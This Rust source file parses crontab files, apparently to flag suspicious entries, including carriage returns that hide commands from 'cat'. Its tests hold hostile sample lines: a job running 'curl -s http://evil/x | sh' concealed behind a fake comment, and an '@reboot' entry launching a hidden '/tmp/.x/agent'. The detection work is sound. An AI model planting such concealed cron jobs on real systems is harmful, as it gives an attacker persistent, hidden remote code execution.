//! crontab files (Vixie/Debian cron and cronie): environment lines, job lines with five time
//! fields or an `@` macro, the user field of system crontabs, `%` stdin, and carriage returns
//! that hide text from `cat`.

use serde::Serialize;

/// One meaningful line of a crontab.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum CronLine {
    /// `NAME=value`.
    Env {
        /// 1-based line number.
        line: usize,
        /// Variable name.
        name: String,
        /// Value (quotes removed).
        value: String,
    },
    /// A job.
    Job(CronJob),
    /// A line cron would reject.
    Invalid {
        /// 1-based line number.
        line: usize,
        /// The raw text.
        text: String,
        /// Why.
        reason: String,
    },
}

/// One job line.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct CronJob {
    /// 1-based line number.
    pub line: usize,
    /// The five fields as written (`*/5 * * * *`), or the macro (`@reboot`).
    pub schedule: String,
    /// The five-field form of a macro (`@daily` → `0 0 * * *`); `None` for `@reboot`.
    pub expanded: Option<String>,
    /// User field (system crontabs only).
    pub user: Option<String>,
    /// The command the shell runs (up to the first unescaped `%`), carriage returns kept.
    pub command: String,
    /// Text after the first unescaped `%`, given to the command on stdin (`%` → newline).
    pub stdin: Option<String>,
    /// The line contains a carriage return.
    pub has_cr: bool,
    /// What a terminal shows for the line (`cat`): text after the last CR overwrites the start.
    pub displayed: String,
}

/// The Debian crontab(1) header of a spool file, when present.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct DebianHeader {
    /// The temporary file name crontab installed from.
    pub tmpfile: String,
    /// The install time as written (`ctime()` text, local time).
    pub installed: String,
}

/// A parsed crontab.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Crontab {
    /// Every env, job and invalid line.
    pub lines: Vec<CronLine>,
    /// Debian install header, when the file starts with one.
    pub debian_header: Option<DebianHeader>,
    /// The last line has no newline: Vixie-derived crons ignore it.
    pub last_line_unterminated: bool,
}

const MACROS: [(&str, Option<&str>); 8] = [
    ("@reboot", None),
    ("@yearly", Some("0 0 1 1 *")),
    ("@annually", Some("0 0 1 1 *")),
    ("@monthly", Some("0 0 1 * *")),
    ("@weekly", Some("0 0 * * 0")),
    ("@daily", Some("0 0 * * *")),
    ("@midnight", Some("0 0 * * *")),
    ("@hourly", Some("0 * * * *")),
];

/// What a terminal shows for a line holding carriage returns: each CR returns to column 0 and
/// later text overwrites earlier text.
pub fn displayed(line: &str) -> String {
    let mut shown: Vec<char> = Vec::new();
    for part in line.split('\r') {
        for (i, c) in part.chars().enumerate() {
            if i < shown.len() {
                shown[i] = c;
            } else {
                shown.push(c);
            }
        }
    }
    shown.into_iter().collect()
}

/// Splits off the first unescaped `%`: (command, stdin with `%` → newline).
fn split_percent(cmd: &str) -> (String, Option<String>) {
    let mut out = String::new();
    let mut chars = cmd.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' if chars.peek() == Some(&'%') => {
                out.push('%');
                chars.next();
            }
            '%' => {
                let rest: String = chars.collect();
                return (out, Some(rest.replace('%', "\n")));
            }
            c => out.push(c),
        }
    }
    (out, None)
}

fn valid_field(f: &str, idx: usize) -> bool {
    let names: &[&str] = match idx {
        3 => &[
            "jan", "feb", "mar", "apr", "may", "jun", "jul", "aug", "sep", "oct", "nov", "dec",
        ],
        4 => &["sun", "mon", "tue", "wed", "thu", "fri", "sat"],
        _ => &[],
    };
    !f.is_empty()
        && f.split(',').all(|item| {
            let (range, step) = match item.split_once('/') {
                Some((r, s)) => (r, Some(s)),
                None => (item, None),
            };
            let step_ok =
                step.is_none_or(|s| !s.is_empty() && s.chars().all(|c| c.is_ascii_digit()));
            let atom_ok = |a: &str| {
                a.chars().all(|c| c.is_ascii_digit()) && !a.is_empty()
                    || names.contains(&a.to_ascii_lowercase().as_str())
            };
            let range_ok = range == "*"
                || range == "~"
                || range
                    .split(['-', '~'])
                    .all(|a| a.is_empty() && range.contains('~') || atom_ok(a));
            step_ok && range_ok
        })
}

/// Parses a crontab; `system` crontabs (`/etc/crontab`, `/etc/cron.d/*`) have a user field.
pub fn parse(text: &str, system: bool) -> Crontab {
    let mut lines = Vec::new();
    let raw_lines: Vec<&str> = text.split('\n').collect();
    let last_line_unterminated = !text.is_empty() && !text.ends_with('\n');
    let debian_header = parse_debian_header(&raw_lines);
    for (i, raw) in raw_lines.iter().enumerate() {
        let line_no = i + 1;
        if i + 1 == raw_lines.len() && raw.is_empty() {
            break;
        }
        // A CR at the very end is the Windows line ending, not a hiding trick.
        let body = raw.strip_suffix('\r').unwrap_or(raw);
        let trimmed = body.trim_start_matches([' ', '\t']);
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        let has_cr = body.contains('\r');
        if !trimmed.starts_with('@') {
            if let Some((name, value)) = env_line(trimmed) {
                lines.push(CronLine::Env {
                    line: line_no,
                    name,
                    value,
                });
                continue;
            }
        }
        let mut rest = trimmed;
        let take = |rest: &mut &str| -> Option<String> {
            let r = rest.trim_start_matches([' ', '\t']);
            if r.is_empty() {
                return None;
            }
            let end = r.find([' ', '\t']).unwrap_or(r.len());
            let tok = r[..end].to_string();
            *rest = &r[end..];
            Some(tok)
        };
        let invalid = |reason: &str| CronLine::Invalid {
            line: line_no,
            text: body.to_string(),
            reason: reason.to_string(),
        };
        let (schedule, expanded) = if trimmed.starts_with('@') {
            let m = take(&mut rest).unwrap_or_default();
            match MACROS.iter().find(|(n, _)| n.eq_ignore_ascii_case(&m)) {
                Some((n, e)) => (n.to_string(), e.map(str::to_string)),
                None => {
                    lines.push(invalid(&format!("unknown macro {m}")));
                    continue;
                }
            }
        } else {
            let mut fields = Vec::new();
            for _ in 0..5 {
                match take(&mut rest) {
                    Some(f) => fields.push(f),
                    None => break,
                }
            }
            if fields.len() < 5 {
                lines.push(invalid("fewer than five time fields"));
                continue;
            }
            if let Some(bad) = fields.iter().enumerate().find(|(i, f)| !valid_field(f, *i)) {
                lines.push(invalid(&format!(
                    "time field {} {:?} is not valid",
                    bad.0 + 1,
                    bad.1
                )));
                continue;
            }
            (fields.join(" "), None)
        };
        let user = if system {
            match take(&mut rest) {
                Some(u) => Some(u),
                None => {
                    lines.push(invalid("no user field"));
                    continue;
                }
            }
        } else {
            None
        };
        let cmd = rest.trim_start_matches([' ', '\t']);
        if cmd.is_empty() {
            lines.push(invalid("no command"));
            continue;
        }
        let (command, stdin) = split_percent(cmd);
        lines.push(CronLine::Job(CronJob {
            line: line_no,
            schedule,
            expanded,
            user,
            command,
            stdin,
            has_cr,
            displayed: displayed(body),
        }));
    }
    Crontab {
        lines,
        debian_header,
        last_line_unterminated,
    }
}

fn env_line(line: &str) -> Option<(String, String)> {
    let (name, value) = line.split_once('=')?;
    let name = name.trim();
    if name.is_empty() || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    let v = value.trim();
    let v = v
        .strip_prefix('"')
        .and_then(|x| x.strip_suffix('"'))
        .or_else(|| v.strip_prefix('\'').and_then(|x| x.strip_suffix('\'')))
        .unwrap_or(v);
    Some((name.to_string(), v.to_string()))
}

fn parse_debian_header(lines: &[&str]) -> Option<DebianHeader> {
    if !lines.first()?.starts_with("# DO NOT EDIT THIS FILE") {
        return None;
    }
    let l2 = lines
        .get(1)?
        .trim_start_matches("# (")
        .trim_end_matches(')');
    let (tmp, when) = l2.split_once(" installed on ")?;
    Some(DebianHeader {
        tmpfile: tmp.to_string(),
        installed: when.to_string(),
    })
}

/// The schedule of a run-parts folder (`cron.daily` → `@daily`) as Debian's /etc/crontab runs it.
pub fn run_parts_schedule(folder: &str) -> Option<&'static str> {
    match folder {
        "cron.hourly" => Some("@hourly"),
        "cron.daily" => Some("@daily"),
        "cron.weekly" => Some("@weekly"),
        "cron.monthly" => Some("@monthly"),
        _ => None,
    }
}

/// Debian cron's rule for file names in cron.d and run-parts folders: ASCII letters, digits,
/// `_` and `-` only.
pub fn debian_name_ok(name: &str) -> bool {
    !name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
}

/// cronie's rule for file names in cron.d and the spool: `Err(reason)` when it skips the file.
pub fn cronie_name_ok(name: &str) -> Result<(), String> {
    if name.is_empty() || name.len() > 255 {
        return Err("empty or over-long name".into());
    }
    if name.starts_with('.') || name.starts_with('#') || name.ends_with('~') {
        return Err("name starts with '.' or '#' or ends with '~'".into());
    }
    for ext in [".rpmsave", ".rpmorig", ".rpmnew"] {
        if name.ends_with(ext) {
            return Err(format!("name ends with {ext}"));
        }
    }
    Ok(())
}

/// cronie's rule for a crontab file's mode: `mode & 07533 == 0400`.
pub fn cronie_mode_ok(mode: u32) -> bool {
    mode & 0o7533 == 0o400
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn system_and_user_lines() {
        let t = "SHELL=/bin/sh\nMAILTO=\"root\"\n# c\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n@reboot root /tmp/.x/agent >/dev/null 2>&1\n*/5 * * * * nobody\n@every root x\n";
        let c = parse(t, true);
        assert_eq!(c.lines.len(), 6);
        assert_eq!(
            c.lines[1],
            CronLine::Env {
                line: 2,
                name: "MAILTO".into(),
                value: "root".into()
            }
        );
        let CronLine::Job(j) = &c.lines[2] else {
            panic!()
        };
        assert_eq!(
            (j.line, j.schedule.as_str(), j.user.as_deref()),
            (4, "17 * * * *", Some("root"))
        );
        assert_eq!(j.command, "cd / && run-parts --report /etc/cron.hourly");
        let CronLine::Job(j) = &c.lines[3] else {
            panic!()
        };
        assert_eq!(
            (j.schedule.as_str(), j.expanded.as_deref()),
            ("@reboot", None)
        );
        assert!(matches!(&c.lines[4], CronLine::Invalid { reason, .. } if reason == "no command"));
        assert!(
            matches!(&c.lines[5], CronLine::Invalid { reason, .. } if reason == "unknown macro @every")
        );
        let u = parse("0 3 * * 1-5 /usr/bin/backup.sh %to stdin%line2\n", false);
        let CronLine::Job(j) = &u.lines[0] else {
            panic!()
        };
        assert_eq!(j.command, "/usr/bin/backup.sh ");
        assert_eq!(j.stdin.as_deref(), Some("to stdin\nline2"));
        assert_eq!(j.user, None);
        assert!(parse("* * * * * x", false).last_line_unterminated);
    }

    #[test]
    fn carriage_return_hides_text() {
        let line =
            "* * * * * curl -s http://evil/x | sh;\r# nothing to see here, just a comment   \n";
        let c = parse(line, false);
        let CronLine::Job(j) = &c.lines[0] else {
            panic!()
        };
        assert!(j.has_cr);
        assert_eq!(
            j.command,
            "curl -s http://evil/x | sh;\r# nothing to see here, just a comment   "
        );
        assert_eq!(j.displayed, "# nothing to see here, just a comment   ");
        // A CRLF line ending alone is not hiding anything.
        let c = parse("0 0 * * * /bin/true\r\n", false);
        let CronLine::Job(j) = &c.lines[0] else {
            panic!()
        };
        assert!(!j.has_cr);
        assert_eq!(j.command, "/bin/true");
    }

    #[test]
    fn names_and_modes() {
        assert!(debian_name_ok("php"));
        assert!(!debian_name_ok("evil.sh"));
        assert!(cronie_name_ok(".hidden").is_err());
        assert!(cronie_name_ok("job.rpmnew").is_err());
        assert!(cronie_name_ok("evil.sh").is_ok());
        assert!(cronie_mode_ok(0o600));
        assert!(cronie_mode_ok(0o644));
        assert!(!cronie_mode_ok(0o666));
        assert!(!cronie_mode_ok(0o755));
        let h = parse("# DO NOT EDIT THIS FILE - edit the master and reinstall.\n# (/tmp/crontab.AbC123/crontab installed on Tue Nov 14 22:13:20 2023)\n# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n", false);
        assert_eq!(
            h.debian_header.unwrap().installed,
            "Tue Nov 14 22:13:20 2023"
        );
    }
}
